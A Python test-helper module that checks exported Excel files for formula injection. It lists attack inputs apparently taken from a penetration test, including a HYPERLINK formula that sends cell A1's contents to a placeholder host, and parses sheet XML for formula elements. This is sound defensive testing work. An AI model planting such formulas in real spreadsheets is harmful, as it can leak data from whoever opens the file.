"""Checks on exported .xlsx files: no cell is a formula, and text is stored as text."""

import io
import re
import zipfile

from openpyxl import load_workbook

# what a penetration test types into 联系人 / 机构名称 (issue 13 item 2)
# (the first fits 联系人, 40 characters)
NASTY = ('=HYPERLINK("http://e.example/?"&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", "#N/A")


def formulas_in(data):
    """Every <f> (formula) element in the workbook's sheets; [] for a safe export."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name).decode()
                found += [part.split("</f>")[0] for part in xml.split("<f>")[1:]]
                found += [part.split("</f>")[0] for part in xml.split("<f ")[1:]]
    return found


def _unescape(value):
    # XlsxWriter stores a CR in an inline string as _x000D_ (as Excel does); openpyxl reads it back raw
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value) if isinstance(value, str) else value


def cells(data):
    """{value: data_type} of every non-empty cell of every sheet."""
    workbook = load_workbook(io.BytesIO(data))
    return {
        _unescape(cell.value): cell.data_type
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }
